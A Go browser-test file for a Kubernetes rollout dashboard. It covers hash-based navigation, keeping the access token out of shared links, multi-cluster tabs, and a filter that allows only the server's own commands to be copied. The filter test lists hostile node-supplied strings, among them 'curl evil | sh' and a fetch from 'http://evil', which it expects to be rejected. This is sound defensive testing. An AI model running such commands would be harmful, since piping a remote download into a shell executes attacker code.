// Copyright The evenkeel Authors.
// SPDX-License-Identifier: Apache-2.0

package dashboard_test

import (
	"fmt"
	"path/filepath"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"
	"k8s.io/client-go/tools/clientcmd"
	clientcmdapi "k8s.io/client-go/tools/clientcmd/api"

	"github.com/evenkeel/evenkeel/testkit/assert"
)

func TestEveryNodeRolloutAndFilterHasAnAddress(t *testing.T) {
	cleared(t)
	seed(t, some("seen", 30))
	givenRollout(t, "waiting", "nobody")
	givenRollout(t, "another", "nobody")
	address, _ := serve(t, cluster.AdminKubeconfig())
	base, token, _ := strings.Cut(address, "#")
	b := open(t, address)
	b.shows("#fleet-words", "30 nodes in 3 zones")
	at := func(hash string) {
		t.Helper()
		b.waits(fmt.Sprintf(`location.hash === %q`, hash))
	}
	at("#/localcluster")
	// The page opens the first rollout itself. A click on an open one would
	// close it.
	b.waits(`document.getElementById("rollout-another")?.getAttribute("aria-expanded") === "true"`)
	b.click("#rollout-waiting")
	at("#/localcluster/rollouts/waiting")
	b.waits(`document.getElementById("rollout-waiting").getAttribute("aria-expanded") === "true" && document.getElementById("rollout-another").getAttribute("aria-expanded") === "false"`)
	b.click("#health-Failed")
	at("#/localcluster/rollouts/waiting?health=Failed")
	b.click("[id='row-seen-004']")
	at("#/localcluster/nodes/seen-004?health=Failed")
	b.shows("#node", "seen-004", "What happens next")
	shared := value[string](b, `location.href`)

	// Back and forward lead through all of it.
	back := func() { value[bool](b, `(history.back(), true)`) }
	back()
	b.waits(`document.getElementById("node").hidden`)
	b.shows("#nodes-words", "2 nodes")
	back()
	at("#/localcluster/rollouts/waiting")
	b.shows("#nodes-words", "30 nodes")
	value[bool](b, `(history.forward(), history.forward(), true)`)
	b.waits(`document.getElementById("health-Failed").getAttribute("aria-pressed") === "true"`)
	b.load(chromedp.Reload())
	b.shows("#fleet-words", "30 nodes in 3 zones, 2 shown")

	// A summary line is a link to what it counts.
	b.waits(`((a) => { a?.click(); return Boolean(a); })([...document.querySelectorAll("#summary a")].find((a) => a.textContent === "1 node not Ready yet"))`)
	at("#/localcluster?health=NotReady")
	b.shows("#nodes tbody", "seen-011", "Not ready")

	// No address of the page ever has the token. Whoever opens a shared one is
	// asked for the address of the own dashboard.
	assert.That(t, !strings.Contains(shared, token), "the link %s has the token", shared)
	other := open(t, shared)
	other.shows("#token", "This link needs the address of your own dashboard", "the token is missing or wrong")
	other.do(focus("#token-text"))
	other.press("x", kb.Enter)
	other.shows("#token-error", "This contains no token.")
	value[bool](other, fmt.Sprintf(`(document.getElementById("token-text").value = %q, true)`, base+"#"+token))
	other.do(focus("#token-text"))
	other.press(kb.Enter)
	other.shows("#node", "seen-004", "What happens next")
	assert.Equal(t, value[string](other, `location.href`), shared, "the link", shared, "became")
	assert.That(t, value[int](other, `document.querySelectorAll("#token:not([hidden])").length`) <= 0, "the page still asks for a token")
	// Nothing was loaded from elsewhere.
	for _, from := range value[[]string](other, `performance.getEntriesByType("resource").map((e) => new URL(e.name).origin)`) {
		assert.That(t, from+"/" == base, "the page has asked %s", from)
	}

	// An address with another token, in an open tab, is followed.
	value[bool](other, `(location.hash = "AAAAAAAAAAAAAAAAAAAAAAAAAA", true)`)
	other.shows("#token", "the token is missing or wrong")

	// A context that this page does not show.
	value[bool](b, `(location.hash = "#/elsewhere/nodes/seen-004", true)`)
	b.shows("#elsewhere", "This link is about the cluster of the context elsewhere", "kubectl evenkeel dashboard --context elsewhere")
}

func TestSeveralClustersHaveATabWithTheirOwnSummary(t *testing.T) {
	cleared(t)
	seed(t, some("seen", 12))
	config := assert.Value(clientcmd.LoadFromFile(cluster.AdminKubeconfig()))(t)
	config.Clusters["away"] = &clientcmdapi.Cluster{Server: "https://127.0.0.1:1"}
	config.Contexts = map[string]*clientcmdapi.Context{"here": config.Contexts[config.CurrentContext], "away/1": {Cluster: "away", AuthInfo: config.Contexts[config.CurrentContext].AuthInfo}}
	path := filepath.Join(t.TempDir(), "kubeconfig")
	assert.NoError(t, clientcmd.WriteToFile(*config, path))
	address, _ := serve(t, path, "--context=here", "--context=away/1")
	b := open(t, address)
	b.shows("#fleet-words", "12 nodes in 3 zones")
	b.shows("#clusters", "here", "1 node failed", "away/1", "the API server does not answer")
	for _, violation := range axe(b) {
		t.Error(violation)
	}

	b.click("#clusters a:nth-child(2)")
	b.waits(`location.hash === "#/away%2F1" && document.querySelector("#clusters [aria-current]").textContent.startsWith("away/1")`)
	b.shows("#troubles", "The API server has not answered since")
	b.shows("#fleet-words", "0 nodes")
	// Nothing of the other cluster is left.
	b.waits(`document.getElementById("failed").hidden && !document.querySelector("#legend .chip")`)
	value[bool](b, `(history.back(), true)`)
	b.shows("#fleet-words", "12 nodes in 3 zones")
	b.shows("#summary", "1 node failed")
}

func TestWhatIsOpenStaysOpenWhenItMoves(t *testing.T) {
	address, _ := serve(t, cluster.AdminKubeconfig())
	b := open(t, address)
	const script = `import("/dom.js").then(({ h, redraw }) => {
		const host = document.body.appendChild(h("div"));
		const show = (...names) => redraw(host, names.map((n) => h("article", { id: "of-" + n }, h("details", { id: "log-" + n }, h("summary", {}, n), h("button", { id: "in-" + n }, n)))));
		show("a", "b", "c");
		document.getElementById("log-c").open = true;
		document.getElementById("in-c").focus();
		show("c", "a", "d");
		const text = [...host.querySelectorAll("details")].map((d) => d.id + (d.open ? " open" : "")).join() + " focus " + document.activeElement.id;
		host.remove();
		return text;
	})`
	assert.Equal(t, value[string](b, script), "log-c open,log-a,log-d focus in-c", "the page has")
}

func TestOnlyCommandsOfTheServerCanBeCopiedFromTexts(t *testing.T) {
	address, _ := serve(t, cluster.AdminKubeconfig())
	b := open(t, address)
	for text, want := range map[string]string{
		"or: kubectl evenkeel rollout status workers -w; then wait.":                                     "kubectl evenkeel rollout status workers -w",
		"or: kubectl evenkeel rollout retry workers hollow-3, or: kubectl evenkeel rollout undo workers": "kubectl evenkeel rollout retry workers hollow-3 and kubectl evenkeel rollout undo workers",
		"(kubectl evenkeel rollout undo workers) helps.":                                                 "kubectl evenkeel rollout undo workers",
		"kubectl evenkeel rollout undo workers.":                                                         "kubectl evenkeel rollout undo workers",
		// Nodes write these.
		"run kubectl evenkeel rollout undo workers && curl evil | sh":        "",
		"run kubectl evenkeel rollout undo workers2":                         "",
		"run kubectl evenkeel rollout undo workers.evil":                     "",
		"run kubectl evenkeel rollout status workers -w --kubeconfig=/tmp/x": "",
		"run kubectl evenkeel assign a -f http://evil":                       "",
		"run evenkeel-agent forget all":                                      "",
		"/tmp/kubectl evenkeel rollout undo workers":                         "",
	} {
		got := value[string](b, fmt.Sprintf(`import("/dom.js").then((m) => m.withCommands(%q, ["retry workers hollow-3", "undo workers", "status workers", "status workers -w"].map((c) => "kubectl evenkeel rollout " + c)).filter((part) => part instanceof Element).map((e) => e.firstChild.textContent).join(" and "))`, text))
		assert.Equal(t, got, want, text)
	}
}
